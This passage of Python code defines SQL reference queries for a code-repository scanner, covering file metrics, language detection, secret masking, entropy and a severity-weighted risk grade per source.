    "path_functions": f"WITH b AS (SELECT file_id, {_BASE} AS base FROM {_DISTINCT_FILES}), e AS (SELECT *, lower(regexp_extract(base, '^.+\\.([^.]*)$', 1)) AS ext FROM b) SELECT file_id, base, ext, {_LANGUAGE_CASE} AS found_language FROM e",
    "ignore_filter": _IGNORE_SQL,
    "project_types": f"WITH b AS (SELECT repo, {_RELBASE} FROM {_DISTINCT_FILES}), t AS (SELECT repo, unnest(list_filter([{_TYPE_CASES}], lambda x: x IS NOT NULL)) AS type FROM b), g AS (SELECT repo, string_agg(DISTINCT type, ',' ORDER BY type) AS types FROM t GROUP BY repo) SELECT r.repo, coalesce(types, 'generic') AS types FROM (SELECT DISTINCT repo FROM b) r LEFT JOIN g ON r.repo = g.repo",
    "language_histogram": f"SELECT repo, language, count(*) AS n FROM {_DISTINCT_FILES} WHERE language IS NOT NULL GROUP BY ALL",
    "file_metrics": f"SELECT repo, count(*) AS files, count_if(starts_with(base, '.')) AS hidden, count_if(is_archive) AS archives, count_if(is_binary) AS binaries, count_if(is_executable) AS programs, count_if(is_disguised) AS disguised, count_if(base IN ({_MANIFEST_NAMES}) OR regexp_matches(base, '\\.(?:csproj|sln)$')) AS manifests, bool_or(starts_with(replace(rel_path, '\\', '/'), '.git')) AS has_git, CAST(sum(coalesce(size, 0)) AS BIGINT) AS bytes FROM (SELECT *, {_RELBASE} FROM {_DISTINCT_FILES}) GROUP BY repo",
    "redact_contacts": f"SELECT doc_id, {hidden_contacts('text')} AS text FROM documents",
    "text_entropy": f"SELECT doc_id, CASE WHEN text = '' THEN 0.0 WHEN text IS NOT NULL THEN round({_ENTROPY.format(v='text')}, 6) END AS bits FROM documents",
    "mask_secret": "WITH t AS (SELECT doc_id, text, regexp_replace(text, '^\\s+|\\s+$', '', 'g') AS s FROM documents), e AS (SELECT *, length(s) AS n, least(4, length(s) // 4) AS k FROM t) SELECT doc_id, CASE WHEN coalesce(length(text), 0) = 0 THEN '[REDACTED]' WHEN n <= 8 THEN '***REDACTED***' ELSE s[1:k] || repeat('*', greatest(4, n - 2 * k)) || right(s, k) END AS masked FROM e",
    "risk_grade_by_source": _line_sql(R.LINE_RULES)
    + ", d AS (SELECT * FROM c QUALIFY row_number() OVER (PARTITION BY source, rule_id, rel_path, line ORDER BY seq) = 1), w AS (SELECT source, category, severity, round(CASE severity WHEN 'CRITICAL' THEN 35.0 WHEN 'HIGH' THEN 15.0 WHEN 'MEDIUM' THEN 5.0 WHEN 'LOW' THEN 1.5 ELSE 0 END * greatest(0.3, confidence / 100.0) * 1000) AS p FROM d), g AS (SELECT source, CAST(least(100, floor(sum(p) / 1000 + 0.5)) AS INTEGER) AS score, count(*) AS findings, count_if(severity = 'CRITICAL') AS n_critical, count_if(severity = 'HIGH') AS n_high, count_if(category IN ('Malware', 'Malware Indicator', 'Suspicious')) AS malware, count_if(category = 'Security') AS sast, count_if(category = 'Configuration') AS configuration FROM w GROUP BY source) SELECT *, CASE WHEN score > 80 THEN 'F' WHEN score > 60 THEN 'D' WHEN score > 35 THEN 'C' WHEN score > 15 THEN 'B' ELSE 'A' END AS grade FROM g",
    "line_dedup_first_wins": _line_sql(R.LINE_RULES) + "SELECT doc_id, rule_id, category, line, seq FROM c QUALIFY row_number() OVER (PARTITION BY rule_id, rel_path, line ORDER BY seq) = 1",
}

_UNION = " UNION ALL ".join(f"SELECT '{scanner}' AS scanner, file_id, rule_id, confidence FROM ({ORACLES[name]})" for scanner, names in _UNITED.items() for name in names)
ORACLES["scanner_union"] = f"SELECT scanner, count(*) AS n, count(DISTINCT file_id) AS files, count(DISTINCT rule_id) AS rules, max(confidence) AS most FROM ({_UNION}) GROUP BY scanner"
